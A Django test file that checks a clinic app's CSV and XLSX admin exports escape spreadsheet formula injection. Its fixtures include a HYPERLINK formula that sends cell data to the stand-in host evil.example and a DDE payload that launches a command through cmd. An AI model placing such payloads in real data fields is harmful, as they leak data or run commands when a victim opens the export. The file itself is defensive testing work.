"""Exports neutralize spreadsheet formulas: a leading apostrophe, in CSV and in XLSX."""

import datetime
import io

import openpyxl
from django.test import SimpleTestCase
from django.urls import reverse

from admin_ext.exports import neutralize_formula
from admin_ext.testing import ClinicTestCase
from clinic.tests.exporting import (
    column,
    content,
    export_from_changelist,
    export_selected,
    rows,
)
from clinic.tests.factories import DoctorFactory, OrganizationFactory, PatientFactory

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A2,"Click me")'

#: Patient fields and the texts a spreadsheet would run as formulas.
EVIL_PATIENT = {
    "first_name": HYPERLINK,
    "last_name": "+Sum(A1:A9)",
    "middle_name": "-2+3",
    "maiden_name": "@SUM(A1:A9)",
    "address": "\t=1+1",
    "city": "\r=2+2",
}


class NeutralizeFormulaTests(SimpleTestCase):
    def test_it_prefixes_each_formula_character(self):
        for text in ("=1+1", "+1", "-1", "@A1", "\t=1", "\r=1"):
            with self.subTest(text=text):
                self.assertEqual(neutralize_formula(text), "'" + text)

    def test_it_leaves_other_values_alone(self):
        for value in ("Ann", "***-**-6789", "1980-05-17", "", None, 3, datetime.date(2020, 1, 2)):
            with self.subTest(value=value):
                self.assertEqual(neutralize_formula(value), value)


class FormulaEscapingTests(ClinicTestCase):
    @classmethod
    def setUpTestData(cls):
        super().setUpTestData()
        cls.evil = PatientFactory(**EVIL_PATIENT)
        cls.evil_site = OrganizationFactory(name="=1+1", city="Evilton", phone="+1 617 555 0100")
        cls.evil_doctor = DoctorFactory(last_name="=cmd|' /C calc'!A0", organization=cls.evil_site)

    def setUp(self):
        self.login(self.admin)

    def evil_row(self, file, file_format):
        (row,) = [r for r in rows(file, file_format) if r["mrn"] == self.evil.mrn]
        return row

    def test_it_escapes_formulas_in_csv(self):
        _, file = export_from_changelist(
            self.client, reverse("admin:clinic_patient_changelist"), "csv"
        )

        row = self.evil_row(file, "csv")
        for field, text in EVIL_PATIENT.items():
            self.assertEqual(row[field], "'" + text, field)
        self.assertNotIn(b",=HYPERLINK", content(file))

    def test_it_escapes_formulas_in_xlsx(self):
        _, file = export_from_changelist(
            self.client, reverse("admin:clinic_patient_changelist"), "xlsx"
        )

        sheet = openpyxl.load_workbook(io.BytesIO(content(file))).active
        header = [cell.value for cell in sheet[1]]
        (evil,) = [
            r for r in sheet.iter_rows(min_row=2) if r[header.index("mrn")].value == self.evil.mrn
        ]
        for field, text in EVIL_PATIENT.items():
            cell = evil[header.index(field)]
            self.assertNotEqual(cell.data_type, "f", field)
            self.assertEqual(cell.data_type, "s", field)
            # XML reads a carriage return back as a line feed; the apostrophe is what counts.
            self.assertEqual(cell.value, "'" + text.replace("\r", "\n"), field)
        formulas = [c.coordinate for r in sheet.iter_rows() for c in r if c.data_type == "f"]
        self.assertEqual(formulas, [])
        # Only formula-like text is touched: an empty cell stays empty.
        self.assertIn(evil[header.index("suffix")].value, (None, ""))
        self.assertEqual(evil[header.index("birth_date")].value, "1980-05-17")

    def test_it_leaves_ordinary_cells_alone(self):
        for file_format in ("csv", "xlsx"):
            with self.subTest(format=file_format):
                _, file = export_from_changelist(
                    self.client, reverse("admin:clinic_patient_changelist"), file_format
                )
                (ann,) = [r for r in rows(file, file_format) if r["mrn"] == self.alice_patient.mrn]
                self.assertEqual(ann["first_name"], "Ann")
                self.assertEqual(ann["ssn"], self.alice_patient.ssn)

    def test_it_escapes_formulas_in_export_selected(self):
        for file_format in ("csv", "xlsx"):
            with self.subTest(format=file_format):
                _, file = export_selected(
                    self.client,
                    reverse("admin:clinic_patient_changelist"),
                    [self.evil.pk],
                    file_format,
                )
                self.assertEqual(column(file, file_format, "first_name"), ["'" + HYPERLINK])

    def test_it_escapes_formulas_in_doctor_and_organization_exports(self):
        for file_format in ("csv", "xlsx"):
            with self.subTest(format=file_format):
                _, file = export_from_changelist(
                    self.client,
                    reverse("admin:clinic_organization_changelist") + "?q=Evilton",
                    file_format,
                )
                (site,) = rows(file, file_format)
                self.assertEqual((site["name"], site["phone"]), ("'=1+1", "'+1 617 555 0100"))

                _, file = export_from_changelist(
                    self.client, reverse("admin:clinic_doctor_changelist") + "?q=calc", file_format
                )
                self.assertEqual(column(file, file_format, "last_name"), ["'=cmd|' /C calc'!A0"])
